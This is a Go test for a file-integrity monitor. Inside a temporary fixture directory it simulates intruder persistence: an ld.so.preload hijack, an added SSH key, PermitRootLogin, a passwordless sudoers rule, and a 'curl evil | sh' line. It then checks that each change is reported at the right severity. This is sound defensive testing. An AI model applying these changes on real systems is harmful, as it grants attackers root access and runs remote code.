package integrity

import (
	"context"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/mamori-sec/mamori/integrity/policy"
	builtin "github.com/mamori-sec/mamori/rules/integrity"
)

// TestBuiltinPolicyOnFixture runs the built-in Linux policy against the
// fixture system in testdata/root (through --root) and checks that the
// changes an intruder makes are reported with the policy's severities,
// while expected changes (logs) and unwatched files stay quiet.
func TestBuiltinPolicyOnFixture(t *testing.T) {
	root := t.TempDir()
	must(t, os.CopyFS(root, os.DirFS("testdata/root")))
	pol, err := policy.Parse(builtin.LinuxName, builtin.Linux, true)
	must(t, err)
	cfg := Config{Policy: pol, Baseline: filepath.Join(t.TempDir(), "b.db"), Key: []byte("fixture-key-0123456789"), Root: root}
	ctx := context.Background()
	rep, err := Init(ctx, cfg)
	must(t, err)
	if rep.Entries < 25 {
		t.Fatalf("builtin policy recorded only %d entries of the fixture", rep.Entries)
	}
	time.Sleep(20 * time.Millisecond)
	p := func(s string) string { return filepath.Join(root, s) }
	appendTo := func(s, text string) {
		f, err := os.OpenFile(p(s), os.O_APPEND|os.O_WRONLY, 0)
		must(t, err)
		f.WriteString(text)
		must(t, f.Close())
	}
	must(t, os.WriteFile(p("etc/ld.so.preload"), []byte("/tmp/evil.so\n"), 0o644))
	appendTo("home/alice/.ssh/authorized_keys", "ssh-ed25519 AAAAintruder x@y\n")
	appendTo("etc/ssh/sshd_config", "PermitRootLogin yes\n")
	must(t, os.WriteFile(p("etc/sudoers.d/evil"), []byte("alice ALL=(ALL) NOPASSWD: ALL\n"), 0o440))
	appendTo("usr/bin/tool", "curl evil | sh\n")
	appendTo("home/alice/docs/notes.txt", "not watched\n")
	appendTo("var/log/syslog", "logs grow\n")
	must(t, os.WriteFile(p("var/log/new.log"), []byte("rotated\n"), 0o640))
	must(t, os.Chmod(p("var/log/syslog"), 0o666))

	rep, err = Check(ctx, cfg)
	must(t, err)
	var got []string
	for _, f := range rep.Findings {
		got = append(got, f.What+" "+f.Path+" "+f.Rule.Severity.String()+" "+f.Rule.Path)
	}
	sort.Strings(got)
	want := []string{
		"added /etc/ld.so.preload critical /etc/ld.so.preload",
		"added /etc/sudoers.d/evil critical /etc/sudoers.d",
		"changed /etc medium /etc", // its mtime moved: ld.so.preload was created in it
		"changed /etc/ssh/sshd_config high /etc/ssh",
		"changed /etc/sudoers.d critical /etc/sudoers.d",
		"changed /home/alice/.ssh/authorized_keys critical /home",
		"changed /usr/bin/tool high /usr/bin",
		"changed /var/log/syslog low /var/log",
	}
	sort.Strings(want)
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("findings:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	for _, f := range rep.Findings {
		if f.Path == "/var/log/syslog" && (len(f.Changes) != 1 || f.Changes[0].Attr != "mode") {
			t.Errorf("log change reported %v, want only its mode", f.Changes)
		}
	}
}
